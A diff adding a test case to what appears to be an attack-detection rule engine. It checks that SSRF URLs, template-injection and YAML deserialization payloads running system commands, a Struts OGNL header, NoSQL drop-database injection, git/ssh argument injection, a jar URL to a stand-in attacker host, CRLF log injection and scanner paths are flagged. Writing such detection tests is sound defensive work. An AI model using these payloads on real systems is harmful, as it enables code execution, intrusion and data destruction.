@@ -328,3 +328,34 @@ TEST_CASE("8004/8005: line breaks before a header in body values") {
     CHECK(!Has(body(ok), 8005));
   }
 }
+
+// Attack forms found missing by an attack corpus written blind (docs/benchmarks.md, "Blind corpora").
+TEST_CASE("blind-corpus gaps: wrappers, rebinding names, template callables, argument injection") {
+  CheckCaught({{4004, "jar:http://attacker.example/evil.jar!/Exploit.class"},
+               {5002, "http://localtest.me:8000/internal/config"},
+               {5002, "http://\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.\xe2\x93\xaa.\xe2\x93\xaa.\xe2\x91\xa0/"},  // ①②⑦.⓪.⓪.①
+               {6003, "{{['id']|filter('system')}}"},
+               {6003, "{{()[\"\\x5f\\x5fclass\\x5f\\x5f\"]}}"},
+               {7002, "'; db.dropDatabase(); var a='"},
+               {3003, "--upload-pack=touch /tmp/pwned"},
+               {3003, "-oProxyCommand=id x"},
+               {8001, "guest\r\n[INFO] admin logged in"},
+               {8003, "/docs/\xe2\x80\xa8Set-Cookie:ls=1"},
+               {8501, "eval(chr(115).chr(121))"},
+               {8507, "hook: !!python/object/apply:os.system [\"id\"]"}});
+  CheckNotMatched({"https://localtest.mexico.example/", "eval is evil", "--upload-packs are fine", "[INFO] started"},
+                  {5002, 8501, 3003, 8001});
+  auto header = [](const char* name, const char* v) { return Matches(Target::kHeader, name, v); };
+  CHECK(Has(header("content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"), 8508));
+  CHECK(!Has(header("content-type", "multipart/form-data; boundary=x"), 8508));
+  CHECK(Has(header("user-agent", "Mozilla/5.0 (compatible; Jorgee)"), 9001));
+  auto path = [](const char* p) { return Matches(Target::kPath, "", p); };
+  for (const char* p : {"/actuator/env", "/server-status", "/phpmyadmin/index.php", "/HNAP1/", "/solr/admin/cores"}) {
+    INFO(p);
+    CHECK(Has(path(p), 9006));
+  }
+  for (const char* p : {"/actuator/health", "/api/v1/servers/status", "/wp-login.php"}) {
+    INFO(p);
+    CHECK(!Has(path(p), 9006));
+  }
+}
